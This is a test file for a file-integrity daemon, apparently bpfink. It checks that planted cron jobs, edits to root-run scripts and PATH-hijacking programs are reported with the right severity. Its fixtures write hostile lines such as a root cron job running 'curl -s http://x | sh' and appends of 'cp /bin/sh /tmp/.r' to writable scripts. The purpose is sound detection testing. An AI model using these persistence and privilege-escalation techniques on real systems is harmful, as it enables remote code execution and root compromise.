/**
 * Cron by meaning, as an attacker plants a job: a file dropped into a
 * watched cron.d (root's job: critical), a user's own crontab written by
 * that user (nobody, through setpriv), and a cron.d file cron skips (a name
 * with a dot), which stays a plain file, and one named like a database
 * bpfink reads by name (`group`), which is still a cron job.
 */
import { assert, assertEquals } from "./assert.ts";
import { asNobody, run, tempDir, waitFor } from "./helpers.ts";
import { Daemon, daemonConfig } from "./daemon.ts";

Deno.test("a planted cron job is reported with whom it runs as", async () => {
  await using dir = await tempDir();
  const x = dir.path;
  await Deno.chmod(x, 0o755);
  await Deno.mkdir(`${x}/etc/cron.d`, { recursive: true });
  await Deno.mkdir(`${x}/spool/crontabs`, { recursive: true });
  await Deno.chown(`${x}/spool/crontabs`, 65534, 65534);
  const config = await daemonConfig(x, [`- path: ${x}/etc/cron.d`, `- path: ${x}/spool/crontabs`]);
  const d = new Daemon(config);
  try {
    await d.started();
    const sh = await run([
      "sh",
      "-c",
      `echo '* * * * * root curl -s http://x | sh' > ${x}/etc/cron.d/zz`,
    ]);
    assertEquals(sh.code, 0, sh.stderr);
    const root = await d.expect((e) => e.event.action === "cron_job_added", "root's job");
    assertEquals(root.message, "cron job added for root: * * * * * curl -s http://x | sh");
    assertEquals(root.bpfink?.severity, "critical");
    assertEquals(root.process?.name, "sh");

    const mine = await run(asNobody([
      "sh",
      "-c",
      `echo '@reboot /tmp/payload' > ${x}/spool/crontabs/nobody`,
    ]));
    assertEquals(mine.code, 0, mine.stderr);
    const user = await d.expect(
      (e) => e.event.action === "cron_job_added" && e.user?.target?.name === "nobody",
      "nobody's job",
    );
    assertEquals(user.message, "cron job added for nobody: @reboot /tmp/payload");
    assertEquals(user.bpfink?.severity, "high");

    // cron skips a cron.d name with a dot: reported as a file, not as jobs.
    await Deno.writeTextFile(`${x}/etc/cron.d/zz.dpkg-old`, "* * * * * root /bin/true\n");
    const old = await d.expect(
      (e) => e.file?.path === `${x}/etc/cron.d/zz.dpkg-old`,
      "the skipped file",
    );
    assertEquals(old.event.action, "created");
    await new Promise((r) => setTimeout(r, 500));
    assertEquals(d.changes().filter((e) => e.event.action === "cron_job_added").length, 2);

    // Named like a database bpfink reads by name: still a cron.d file, read as cron reads it.
    await Deno.writeTextFile(`${x}/etc/cron.d/group`, "*/5 * * * * root /tmp/.x\n");
    const hidden = await d.expect(
      (e) => e.event.action === "cron_job_added" && e.file?.path === `${x}/etc/cron.d/group`,
      "the job in a file named group",
    );
    assertEquals(hidden.message, "cron job added for root: */5 * * * * /tmp/.x");
    assertEquals(hidden.bpfink?.severity, "critical");
  } finally {
    await d.stop();
  }
});

Deno.test("the script a root cron job runs is watched with the crontab: a user who can write it is seen", async () => {
  await using dir = await tempDir();
  const x = dir.path;
  await Deno.chmod(x, 0o755);
  await Deno.mkdir(`${x}/etc/cron.d`, { recursive: true });
  await Deno.mkdir(`${x}/opt`);
  // A script root runs every minute that a service account may write: a way to root.
  await Deno.writeTextFile(`${x}/opt/backup.sh`, "#!/bin/sh\ntar czf /tmp/b.tgz /srv\n");
  await Deno.chown(`${x}/opt/backup.sh`, 65534, 65534);
  await Deno.writeTextFile(`${x}/etc/cron.d/backup`, `* * * * * root ${x}/opt/backup.sh\n`);
  const d = new Daemon(await daemonConfig(x, [`- path: ${x}/etc/cron.d`]));
  try {
    await d.started();
    assert(
      await waitFor(() => d.stderr.includes(`watching ${x}/opt/backup.sh as generic`), 5_000),
      d.stderr,
    );
    const sh = await run(asNobody(["sh", "-c", `echo 'cp /bin/sh /tmp/.r' >> ${x}/opt/backup.sh`]));
    assertEquals(sh.code, 0, sh.stderr);
    const changed = await d.expect(
      (e) => e.file?.path === `${x}/opt/backup.sh` && e.event.action === "modified",
      "the script's change",
    );
    assertEquals(changed.bpfink?.severity, "critical");
    assertEquals((changed.bpfink?.diff as { added?: string[] } | undefined)?.added, [
      "cp /bin/sh /tmp/.r",
    ]);
  } finally {
    await d.stop();
  }
});

Deno.test("a root job's programs as sh finds them: after a cd, and ahead of the system's in the crontab's PATH", async () => {
  await using dir = await tempDir();
  const x = dir.path;
  await Deno.chmod(x, 0o755);
  await Deno.mkdir(`${x}/etc/cron.d`, { recursive: true });
  await Deno.mkdir(`${x}/srv`);
  await Deno.mkdir(`${x}/local/bin`, { recursive: true });
  await Deno.writeTextFile(`${x}/srv/sync.sh`, "#!/bin/sh\nrsync -a /srv /backup\n");
  await Deno.chown(`${x}/srv/sync.sh`, 65534, 65534);
  // As Debian's /etc/crontab: a PATH that looks in a local directory before the system's.
  await Deno.writeTextFile(
    `${x}/etc/cron.d/jobs`,
    `PATH=${x}/local/bin:/usr/bin:/bin\n` +
      `17 * * * * root cd ${x}/srv && ./sync.sh && run-parts --report /etc/cron.hourly\n`,
  );
  const d = new Daemon(await daemonConfig(x, [`- path: ${x}/etc/cron.d`]));
  try {
    await d.started();
    for (const p of [`${x}/srv/sync.sh`, `${x}/local/bin/run-parts`]) {
      assert(await waitFor(() => d.stderr.includes(`watching ${p} as generic`), 5_000), d.stderr);
    }
    const sh = await run(asNobody(["sh", "-c", `echo 'cp /bin/sh /tmp/.r' >> ${x}/srv/sync.sh`]));
    assertEquals(sh.code, 0, sh.stderr);
    const changed = await d.expect(
      (e) => e.file?.path === `${x}/srv/sync.sh` && e.event.action === "modified",
      "the change of the script the job runs after its cd",
    );
    assertEquals(changed.bpfink?.severity, "critical");
    // A run-parts of one's own, found before /usr/bin/run-parts: it runs as root every hour.
    await Deno.writeTextFile(`${x}/local/bin/run-parts`, "#!/bin/sh\ncp /bin/sh /tmp/.r\n");
    const planted = await d.expect(
      (e) => e.file?.path === `${x}/local/bin/run-parts` && e.event.action === "created",
      "a program planted ahead of the system's in the job's PATH",
    );
    assertEquals(planted.bpfink?.severity, "critical");
  } finally {
    await d.stop();
  }
});

Deno.test("a program a user's job runs, then named by a root job, is watched at root's severity", async () => {
  await using dir = await tempDir();
  const x = dir.path;
  await Deno.chmod(x, 0o755);
  await Deno.mkdir(`${x}/etc/cron.d`, { recursive: true });
  await Deno.mkdir(`${x}/opt`);
  await Deno.writeTextFile(`${x}/opt/report.sh`, "#!/bin/sh\ndf -h\n");
  await Deno.writeTextFile(`${x}/etc/cron.d/report`, `0 * * * * nobody ${x}/opt/report.sh\n`);
  const d = new Daemon(await daemonConfig(x, [`- path: ${x}/etc/cron.d`]));
  try {
    await d.started();
    assert(
      await waitFor(() => d.stderr.includes(`watching ${x}/opt/report.sh as generic`), 5_000),
      d.stderr,
    );
    await Deno.writeTextFile(`${x}/etc/cron.d/report`, `5 * * * * root ${x}/opt/report.sh\n`, {
      append: true,
    });
    await d.expect((e) => e.event.action === "cron_job_added", "root's job");
    assert(
      await waitFor(() => d.stderr.includes(`${x}/opt/report.sh, named again`), 5_000),
      d.stderr,
    );
    await Deno.writeTextFile(`${x}/opt/report.sh`, "cp /bin/sh /tmp/.r\n", { append: true });
    const changed = await d.expect(
      (e) => e.file?.path === `${x}/opt/report.sh` && e.event.action === "modified",
      "the program's change",
    );
    assertEquals(changed.bpfink?.severity, "critical");
  } finally {
    await d.stop();
  }
});
